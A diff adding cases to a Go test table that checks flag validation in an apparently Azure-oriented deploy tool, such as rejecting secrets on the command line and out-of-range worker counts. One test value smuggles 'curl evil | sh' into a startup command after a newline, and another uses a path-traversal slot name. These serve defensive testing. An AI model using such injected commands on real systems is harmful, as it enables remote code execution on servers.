@@ -179,6 +179,13 @@ func cases() []tcase {
 		flagCase("startup command with a newline", 2, []string{"--startup-command", "line break"}, "one line", "--startup-command", "gunicorn x\ncurl evil | sh"),
 		flagCase("--access-token on the command line", 2, []string{"--access-token is a secret"}, "DJDEPLOY_ACCESS_TOKEN", "--access-token", "eyJhbGciOi.argv-token"),
 		flagCase("--storage-connection-string on the command line", 2, []string{"--storage-connection-string is a secret"}, "AZURE_STORAGE_CONNECTION_STRING", "--storage-connection-string", "AccountName=x;AccountKey=YXJndg=="),
+		flagCase("--blob-endpoint with a SAS on the command line", 2, []string{"--blob-endpoint carries a secret"}, "DJDEPLOY_BLOB_ENDPOINT", "--blob-endpoint", "https://acct.blob.core.windows.net/?sv=2022&sig="+testSig),
+		{"flags", "emulator --workers 100000", 2, []string{"--workers 100000 is out of range (1 to 128)"}, "", func(t *testing.T, w *world, dir string) call {
+			return call{args: []string{"emulator", "--workers", "100000"}}
+		}},
+		{"flags", "emulator --storage-connection-string on the command line", 2, []string{"--storage-connection-string is a secret"}, "--storage-connection-string-file", func(t *testing.T, w *world, dir string) call {
+			return call{args: []string{"emulator", "--storage-connection-string", "AccountName=x;AccountKey=YXJndg=="}}
+		}},
 		flagCase("--skip a step that cannot be skipped", 2, []string{`"deploy"`}, "skip one of", "--skip", "deploy"),
 		flagCase("--slot production", 2, []string{"production"}, "staging", "--slot", "production"),
 		flagCase("slot name escaping its path", 2, []string{"invalid slot name"}, "", "--slot", "st/../x"),
